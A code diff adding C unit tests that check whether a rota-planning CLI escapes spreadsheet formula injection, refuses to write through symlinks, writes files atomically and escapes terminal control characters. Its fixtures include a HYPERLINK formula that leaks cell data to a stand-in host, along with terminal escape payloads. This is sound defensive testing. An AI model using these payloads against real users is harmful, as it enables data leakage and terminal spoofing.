@@ -834,6 +834,495 @@ static void test_cli_failed_solve_records_nothing(void **state)
 	result_free(&r);
 }
 
+/* --- outputs: formula injection, safe writing, the --out preflight,
+ * terminal safety (issue 15, points 3, 5, 6 and 11) --- */
+#include "io/io_csv.h"
+
+#include <dirent.h>
+#include <errno.h>
+#include <sys/resource.h>
+#include <sys/stat.h>
+
+/* Writes the NULL-terminated {name, text} pairs as files of tmp_dir/dir. */
+static void write_scenario(const char *dir, const char *const *files)
+{
+	char path[400];
+	size_t i;
+	tmp_path(path, sizeof(path), dir);
+	mkdir(path, 0777);
+	for (i = 0; files[i]; i += 2) {
+		FILE *fp;
+		snprintf(path, sizeof(path), "%s/%s/%s", tmp_dir, dir, files[i]);
+		fp = fopen(path, "wb");
+		assert_non_null(fp);
+		fputs(files[i + 1], fp);
+		fclose(fp);
+	}
+}
+
+/* A small system whose every id begins with '-' (a valid identifier: `-A1`
+ * is also a formula) and whose every name is a formula; it has lending,
+ * bank, agency and a short row, so that every output has rows. */
+static const char *const formula_scenario[] = {
+    "partners.csv",
+    "id,name,kind\n"
+    "-A1,\"=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\",acute\n"
+    "-B2,+SUM(1+1),community\n",
+    "roles.csv",
+    "id,name,group,band\n-R1,-2+3,registered_nursing,@SUM(1)\n",
+    "shifts.csv",
+    "id,date,start,end,paid_hours,enhancement\n"
+    "-S1,2026-11-30,07:00,15:00,8,0\n-S2,2026-11-30,15:00,23:00,8,0.3\n",
+    "demand.csv",
+    "partner,role,shift,required,minimum,priority\n"
+    "-A1,-R1,-S1,5,2,1\n-A1,-R1,-S2,5,2,1\n-B2,-R1,-S1,2,1,1\n-B2,-R1,-S2,9,1,1\n",
+    "staff.csv",
+    "partner,role,shift,available,rotatable\n"
+    "-A1,-R1,-S1,2,0\n-B2,-R1,-S1,4,2\n-B2,-R1,-S2,1,1\n",
+    "bank.csv",
+    "id,name,role,home,max_hours,partners\n-W1,@SUM(1),-R1,-A1,48,*\n-W2,=1+1,-R1,-B2,48,\n",
+    "availability.csv",
+    "worker,shift\n-W1,-S1\n-W2,-S2\n",
+    "agency.csv",
+    "supplier,tier,framework,role,partner,rate,capacity\n-AG,1,yes,-R1,*,60,1\n",
+    "agreements.csv",
+    "from,to,role,max_per_shift,travel_cost,recharge_rate\n-B2,-A1,*,2,10,20\n",
+    "caps.csv",
+    "role,bank_rate,agency_cap\n-R1,25,80\n",
+    NULL};
+
+/* True when cell is a number as muster writes one ("-12.5"). */
+static bool is_number_cell(const char *cell)
+{
+	char *end;
+	if (!*cell)
+		return false;
+	strtod(cell, &end);
+	return *end == '\0';
+}
+
+struct csv_walk {
+	size_t n_files, n_cells, n_quoted;
+};
+
+/* Reads every CSV file under dir (recursively) and fails on a cell that a
+ * spreadsheet would run: one beginning with =, +, -, @, a tab or a CR that
+ * is not a number. */
+static void check_no_formula_cells(const char *dir, struct csv_walk *w)
+{
+	DIR *d = opendir(dir);
+	struct dirent *e;
+	assert_non_null(d);
+	while ((e = readdir(d)) != NULL) {
+		char path[1024];
+		struct stat st;
+		size_t n = strlen(e->d_name), i;
+		if (strcmp(e->d_name, ".") == 0 || strcmp(e->d_name, "..") == 0)
+			continue;
+		snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
+		assert_int_equal(lstat(path, &st), 0);
+		if (S_ISDIR(st.st_mode)) {
+			check_no_formula_cells(path, w);
+		} else if (n > 4 && strcmp(e->d_name + n - 4, ".csv") == 0) {
+			char *text = slurp(path);
+			struct io_csv_table *t = NULL;
+			struct mu_err err;
+			assert_int_equal(io_csv_read(path, text, strlen(text), &t, &err), MU_OK);
+			w->n_files++;
+			for (i = 0;
+			     i < t->rows[t->n_rows - 1].first + t->rows[t->n_rows - 1].n_cells;
+			     i++) {
+				const char *cell = io_csv_cell_text(t, &t->cells[i]);
+				w->n_cells++;
+				w->n_quoted += cell[0] == '\'';
+				if (strchr("=+-@\t\r", cell[0]) && cell[0] && !is_number_cell(cell))
+					fail_msg("%s:%lu: cell '%s' would run as a formula", path,
+					         t->cells[i].line, cell);
+			}
+			io_csv_table_free(t);
+			free(text);
+		}
+	}
+	closedir(d);
+}
+
+/* Point 3: whatever the names and ids, no CSV muster writes holds a cell
+ * that a spreadsheet runs as a formula (DESIGN.md §4): solve (rota and
+ * plan, partners' files included), compare and sweep. */
+static void test_cli_no_csv_cell_runs_as_a_formula(void **state)
+{
+	static const char *const runs[][12] = {
+	    {"solve", "fx", "--out", "fx-rota", "--db", "fx.db", NULL},
+	    {"solve", "fx", "--lp", "--out", "fx-plan", "--db", "fx.db", NULL},
+	    {"compare", "fx", "--lp", "--out", "fx-compare", "--db", "fx.db", NULL},
+	    {"sweep", "fx", "--lp", "--vary", "agency_cap.-R1=50:70:20", "--out", "fx-sweep",
+	     "--db", "fx.db", NULL},
+	};
+	struct csv_walk w = {0, 0, 0};
+	char path[400], *text;
+	size_t k;
+	(void)state;
+	write_scenario("fx", formula_scenario);
+	for (k = 0; k < sizeof(runs) / sizeof(runs[0]); k++) {
+		const char *const *a = runs[k];
+		struct result r =
+		    run(a[0], a[1], a[2], a[3], a[4], a[5], a[6], a[7], a[8], a[9], a[10], NULL);
+		if (r.status != 0 && r.status != 3)
+			fail_msg("muster %s exited %d: %s", a[0], r.status, r.err);
+		result_free(&r);
+	}
+	tmp_path(path, sizeof(path), "fx-rota");
+	check_no_formula_cells(path, &w);
+	tmp_path(path, sizeof(path), "fx-plan");
+	check_no_formula_cells(path, &w);
+	tmp_path(path, sizeof(path), "fx-compare");
+	check_no_formula_cells(path, &w);
+	tmp_path(path, sizeof(path), "fx-sweep");
+	check_no_formula_cells(path, &w);
+	/* plan, summary, why, rota and partners' plan and rota (2 each); plan,
+	 * summary, why, prices and partners' plans; compare, and system and silo
+	 * folders of their own; sweep */
+	assert_true(w.n_files >= 20);
+	assert_true(w.n_quoted > 100);
+	/* the prefix keeps the text whole after it */
+	tmp_path(path, sizeof(path), "fx-rota/summary.csv");
+	text = slurp(path);
+	assert_non_null(strstr(text, "'-A1,\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\""));
+	assert_non_null(strstr(text, "'-B2,'+SUM(1+1),"));
+	free(text);
+	tmp_path(path, sizeof(path), "fx-rota/rota.csv");
+	text = slurp(path);
+	assert_non_null(strstr(text, "'-W1,'@SUM(1),'-R1,'-A1,"));
+	free(text);
+}
+
+/* How run_child starts muster: under a file size limit (0: none), with
+ * SIGXFSZ ignored (writes past it then fail with EFBIG instead of killing
+ * the process), or as the user nobody (when the tests run as root). */
+struct child_how {
+	rlim_t file_size_limit;
+	bool is_sigxfsz_ignored;
+	bool is_nobody;
+};
+
+/* Runs muster with the NULL-terminated argv (after the binary) in tmp_dir
+ * as how says; returns the raw wait status; stdout and stderr go to
+ * tmp_dir/stdout and tmp_dir/stderr, read into *out and *err (the
+ * caller's). */
+static int run_child(const struct child_how *how, const char *const *args, char **out, char **err)
+{
+	const char *argv[32];
+	char out_path[300], err_path[300];
+	int n = 0, status;
+	pid_t pid;
+	argv[n++] = getenv("MUSTER_BIN");
+	assert_non_null(argv[0]);
+	for (; *args && n < 31; args++)
+		argv[n++] = *args;
+	argv[n] = NULL;
+	snprintf(out_path, sizeof(out_path), "%s/stdout", tmp_dir);
+	snprintf(err_path, sizeof(err_path), "%s/stderr", tmp_dir);
+	pid = fork();
+	assert_true(pid >= 0);
+	if (pid == 0) {
+		int fo = open(out_path, O_WRONLY | O_CREAT | O_TRUNC, 0666);
+		int fe = open(err_path, O_WRONLY | O_CREAT | O_TRUNC, 0666);
+		if (fo < 0 || fe < 0 || chdir(tmp_dir) != 0)
+			_exit(127);
+		dup2(fo, 1);
+		dup2(fe, 2);
+		if (how->is_sigxfsz_ignored)
+			signal(SIGXFSZ, SIG_IGN);
+		if (how->file_size_limit > 0) {
+			struct rlimit rl = {how->file_size_limit, how->file_size_limit};
+			if (setrlimit(RLIMIT_FSIZE, &rl) != 0)
+				_exit(127);
+		}
+		if (how->is_nobody && (setgid(65534) != 0 || setuid(65534) != 0))
+			_exit(127);
+		execv(argv[0], (char *const *)argv);
+		_exit(127);
+	}
+	assert_int_equal(waitpid(pid, &status, 0), pid);
+	*out = slurp(out_path);
+	*err = slurp(err_path);
+	return status;
+}
+
+/* tmp_dir/dir/name's bytes, or NULL when there is no such file. */
+static char *file_or_null(const char *dir, const char *name)
+{
+	char path[400];
+	snprintf(path, sizeof(path), "%s/%s/%s", tmp_dir, dir, name);
+	return access(path, F_OK) == 0 ? slurp(path) : NULL;
+}
+
+/* The number of hidden temporaries (".NAME.*.tmp") left in tmp_dir/dir. */
+static size_t count_temporaries(const char *dir)
+{
+	char path[400];
+	struct dirent *e;
+	size_t n = 0;
+	DIR *d;
+	tmp_path(path, sizeof(path), dir);
+	d = opendir(path);
+	assert_non_null(d);
+	while ((e = readdir(d)) != NULL)
+		n += e->d_name[0] == '.' && strstr(e->d_name, ".tmp") != NULL;
+	closedir(d);
+	return n;
+}
+
+/* Point 5: `ln -s victim out/summary.csv` leaves victim as it was (the
+ * link is replaced by the file), and a dangling link makes no file where
+ * it points. */
+static void test_cli_out_never_writes_through_a_link(void **state)
+{
+	char victim[400], link[400], dangling[400], target[400], *text;
+	struct stat st;
+	struct result r;
+	FILE *fp;
+	(void)state;
+	write_scenario("lk-sc", formula_scenario);
+	tmp_path(victim, sizeof(victim), "victim");
+	tmp_path(link, sizeof(link), "lk");
+	mkdir(link, 0777);
+	fp = fopen(victim, "wb");
+	assert_non_null(fp);
+	fputs("victim\n", fp);
+	fclose(fp);
+	tmp_path(link, sizeof(link), "lk/summary.csv");
+	assert_int_equal(symlink(victim, link), 0);
+	tmp_path(dangling, sizeof(dangling), "lk/plan.csv");
+	tmp_path(target, sizeof(target), "made-through-link");
+	assert_int_equal(symlink(target, dangling), 0);
+	r = run("solve", "lk-sc", "--lp", "--out", "lk", "--db", "lk.db", NULL);
+	assert_int_equal(r.status, 0);
+	result_free(&r);
+	text = slurp(victim);
+	assert_string_equal(text, "victim\n");
+	free(text);
+	assert_int_equal(access(target, F_OK), -1);
+	assert_int_equal(lstat(link, &st), 0);
+	assert_true(S_ISREG(st.st_mode));
+	text = slurp(link);
+	assert_true(strncmp(text, "partner,name,", 13) == 0);
+	free(text);
+	assert_int_equal(lstat(dangling, &st), 0);
+	assert_true(S_ISREG(st.st_mode));
+	assert_int_equal(count_temporaries("lk"), 0);
+}
+
+/* Point 5: killed while writing (SIGXFSZ at a file size limit, as sudden
+ * as a crash), muster leaves each output as it was, or absent, or whole:
+ * never half of one. */
+static void test_cli_a_crash_mid_write_leaves_no_half_file(void **state)
+{
+	static const char *const names[] = {"plan.csv", "summary.csv", "why.csv", "prices.csv",
+	                                    "report.html"};
+	const char *full[] = {
+	    "solve", getenv("MUSTER_EXAMPLE_DIR"), "--lp", "--out", "cr-ref", "--db", "cr.db",
+	    NULL};
+	const char *again[] = {
+	    "solve", getenv("MUSTER_EXAMPLE_DIR"), "--lp", "--out", "cr-ref", "--db", "cr-again.db",
+	    NULL};
+	const char *fresh[] = {
+	    "solve", getenv("MUSTER_EXAMPLE_DIR"), "--lp", "--out", "cr-new", "--db", "cr-new.db",
+	    NULL};
+	struct child_how plain = {0, false, false};
+	/* plan.csv is about 90 kB, prices.csv 260 kB: the first limit kills
+	 * muster inside plan.csv, the second inside prices.csv */
+	struct child_how in_plan = {65536, false, false}, in_prices = {200000, false, false};
+	char *ref[5], *out, *err, *now, path[400];
+	size_t k;
+	int status;
+	FILE *fp;
+	(void)state;
+	status = run_child(&plain, full, &out, &err);
+	assert_true(WIFEXITED(status) && WEXITSTATUS(status) == 0);
+	free(out);
+	free(err);
+	for (k = 0; k < 5; k++)
+		assert_non_null(ref[k] = file_or_null("cr-ref", names[k]));
+	assert_true(strlen(ref[0]) > 65536 && strlen(ref[0]) < 200000);
+	assert_true(strlen(ref[3]) > 200000);
+
+	/* over an earlier plan.csv: the earlier one stays */
+	tmp_path(path, sizeof(path), "cr-ref/plan.csv");
+	fp = fopen(path, "wb");
+	assert_non_null(fp);
+	fputs("the previous plan\n", fp);
+	fclose(fp);
+	status = run_child(&in_plan, again, &out, &err);
+	assert_true(WIFSIGNALED(status) && WTERMSIG(status) == SIGXFSZ);
+	free(out);
+	free(err);
+	now = file_or_null("cr-ref", "plan.csv");
+	assert_string_equal(now, "the previous plan\n");
+	free(now);
+
+	/* into a new folder: what is there is whole, and prices.csv is not */
+	status = run_child(&in_prices, fresh, &out, &err);
+	assert_true(WIFSIGNALED(status) && WTERMSIG(status) == SIGXFSZ);
+	free(out);
+	free(err);
+	for (k = 0; k < 5; k++) {
+		now = file_or_null("cr-new", names[k]);
+		if (now)
+			assert_string_equal(now, ref[k]);
+		free(now);
+	}
+	assert_null(now = file_or_null("cr-new", "prices.csv"));
+	assert_non_null(now = file_or_null("cr-new", "plan.csv"));
+	free(now);
+	for (k = 0; k < 5; k++)
+		free(ref[k]);
+}
+
+/* Point 5: a write that fails (the disk full, or here past the file size
+ * limit: EFBIG) is reported with the file and the reason, exit 1, and
+ * leaves neither the file nor a temporary behind. */
+static void test_cli_a_failed_write_says_why_and_leaves_nothing(void **state)
+{
+	const char *args[] = {
+	    "solve", getenv("MUSTER_EXAMPLE_DIR"), "--lp", "--out", "fb", "--db", "fb.db", NULL};
+	struct child_how how = {200000, true, false};
+	char *out, *err, *now;
+	int status;
+	(void)state;
+	status = run_child(&how, args, &out, &err);
+	assert_true(WIFEXITED(status));
+	assert_int_equal(WEXITSTATUS(status), 1);
+	assert_non_null(strstr(err, "fb/prices.csv: cannot write: File too large"));
+	free(out);
+	free(err);
+	assert_null(now = file_or_null("fb", "prices.csv"));
+	assert_int_equal(count_temporaries("fb"), 0);
+}
+
+/* Point 5 and 6: an --out folder that cannot be made is reported with
+ * what mkdir said, before any solving (nothing printed on stdout, no run),
+ * by every command that takes --out; exit 1. */
+static void test_cli_out_folder_refused_before_the_solve(void **state)
+{
+	static const char *const cmds[][10] = {
+	    {"solve", "SC", "--out", "OUT", "--db", "pf.db", NULL},
+	    {"compare", "SC", "--out", "OUT", "--db", "pf.db", NULL},
+	    {"sweep", "SC", "--vary", "demand=1:1.2:0.1", "--out", "OUT", "--db", "pf.db", NULL},
+	    {"demo", "--out", "OUT", "--db", "pf.db", NULL},
+	};
+	const char *bad = "/sys/muster-test-out";
+	char expected[300], *out, *err;
+	struct child_how plain = {0, false, false};
+	size_t k, i;
+	int status;
+	(void)state;
+	/* what mkdir itself says here (EPERM as root, EACCES otherwise) */
+	if (mkdir(bad, 0777) == 0) {
+		rmdir(bad);
+		skip();
+	}
+	snprintf(expected, sizeof(expected), "cannot create the folder %s: %s", bad,
+	         strerror(errno));
+	for (k = 0; k < sizeof(cmds) / sizeof(cmds[0]); k++) {
+		const char *argv[10];
+		for (i = 0; cmds[k][i]; i++)
+			argv[i] = strcmp(cmds[k][i], "SC") == 0    ? getenv("MUSTER_EXAMPLE_DIR")
+			          : strcmp(cmds[k][i], "OUT") == 0 ? bad
+			                                           : cmds[k][i];
+		argv[i] = NULL;
+		status = run_child(&plain, argv, &out, &err);
+		assert_true(WIFEXITED(status));
+		if (WEXITSTATUS(status) != 1 || !strstr(err, expected) || *out)
+			fail_msg("muster %s exited %d, printed '%s' and said '%s'", argv[0],
+			         WEXITSTATUS(status), out, err);
+		assert_null(strstr(err, "No such file or directory"));
+		free(out);
+		free(err);
+	}
+}
+
+/* Point 5: an unwritable parent says "Permission denied" (as mkdir does),
+ * not "No such file or directory". Run as nobody when the tests run as
+ * root, for whom no folder is unwritable. */
+static void test_cli_out_under_an_unwritable_parent_says_permission_denied(void **state)
+{
+	const char *args[] = {"solve", getenv("MUSTER_EXAMPLE_DIR"), "--lp", "--out", "ro/out",
+	                      "--db",  "/tmp/muster-never.db",       NULL};
+	struct child_how how = {0, false, geteuid() == 0};
+	char path[400], *out, *err;
+	int status;
+	(void)state;
+	tmp_path(path, sizeof(path), "ro");
+	assert_int_equal(mkdir(path, 0555), 0);
+	chmod(tmp_dir, 0755); /* nobody may enter tmp_dir (mkdtemp made it 0700) */
+	status = run_child(&how, args, &out, &err);
+	chmod(tmp_dir, 0700);
+	assert_true(WIFEXITED(status));
+	assert_int_equal(WEXITSTATUS(status), 1);
+	assert_non_null(strstr(err, "cannot create the folder ro/out: Permission denied"));
+	assert_string_equal(out, "");
+	free(out);
+	free(err);
+}
+
+/* True when text holds a byte a terminal acts on: a C0 control other than
+ * newline, or DEL. */
+static bool has_terminal_control(const char *text)
+{
+	const unsigned char *s = (const unsigned char *)text;
+	for (; *s; s++)
+		if ((*s < 0x20 && *s != '\n') || *s == 0x7F)
+			return true;
+	return false;
+}
+
+/* Point 11: control characters in a folder name and in names reach the
+ * terminal written out (\x1B, as error messages write them), never raw:
+ * check (ok and with errors), solve, compare, sweep, runs and show. */
+static void test_cli_control_characters_are_escaped_on_the_terminal(void **state)
+{
+	const char *dir = "esc\033[31mdir", *broken = "esc\033[31mbroken";
+	const char *const runs[][10] = {
+	    {"check", dir, NULL},
+	    {"solve", dir, "--lp", "--db", "esc.db", "--out", "esc\033]0;out\007", NULL},
+	    {"compare", dir, "--lp", "--db", "esc.db", NULL},
+	    {"sweep", dir, "--lp", "--vary", "demand=1:1.1:0.1", "--db", "esc.db", NULL},
+	    {"runs", "--db", "esc.db", NULL},
+	    {"show", "1", "--db", "esc.db", NULL},
+	    {"check", broken, NULL},
+	    {"solve", "--x\033[2Jb", NULL},
+	};
+	struct child_how plain = {0, false, false};
+	char path[400], *out, *err;
+	size_t k;
+	(void)state;
+	write_scenario(dir, formula_scenario);
+	snprintf(path, sizeof(path), "%s/partners.csv", dir);
+	edit_file(path, "+SUM(1+1)", "Bee\033]0;pwned\007 trust");
+	snprintf(path, sizeof(path), "%s/bank.csv", dir);
+	edit_file(path, "@SUM(1)", "Eve\033[31mRed\xc2\x9b");
+	write_scenario(broken, formula_scenario);
+	snprintf(path, sizeof(path), "%s/demand.csv", broken);
+	edit_file(path, "-A1,-R1,-S1,5", "-A1,-R1,-S1,x\033[1m");
+	for (k = 0; k < sizeof(runs) / sizeof(runs[0]); k++) {
+		int status = run_child(&plain, runs[k], &out, &err);
+		assert_true(WIFEXITED(status));
+		if (has_terminal_control(out) || has_terminal_control(err))
+			fail_msg("muster %s printed a control character: '%s' '%s'", runs[k][0],
+			         out, err);
+		/* the folder is named, written out */
+		if (k == 0 || k == 4 || k == 5)
+			assert_non_null(strstr(out, "esc\\x1B[31mdir"));
+		if (k == 6)
+			assert_non_null(strstr(err, "esc\\x1B[31mbroken: 1 error"));
+		if (k == 7)
+			assert_non_null(strstr(err, "unknown option '--x\\x1B[2Jb'"));
+		free(out);
+		free(err);
+	}
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -853,6 +1342,13 @@ int main(void)
 	    cmocka_unit_test(test_cli_time_limit_marks_the_rota_not_proven),
 	    cmocka_unit_test(test_cli_interrupted_solve_records_nothing),
 	    cmocka_unit_test(test_cli_failed_solve_records_nothing),
+	    cmocka_unit_test(test_cli_no_csv_cell_runs_as_a_formula),
+	    cmocka_unit_test(test_cli_out_never_writes_through_a_link),
+	    cmocka_unit_test(test_cli_a_crash_mid_write_leaves_no_half_file),
+	    cmocka_unit_test(test_cli_a_failed_write_says_why_and_leaves_nothing),
+	    cmocka_unit_test(test_cli_out_folder_refused_before_the_solve),
+	    cmocka_unit_test(test_cli_out_under_an_unwritable_parent_says_permission_denied),
+	    cmocka_unit_test(test_cli_control_characters_are_escaped_on_the_terminal),
 	};
 	return cmocka_run_group_tests(tests, setup, teardown);
 }
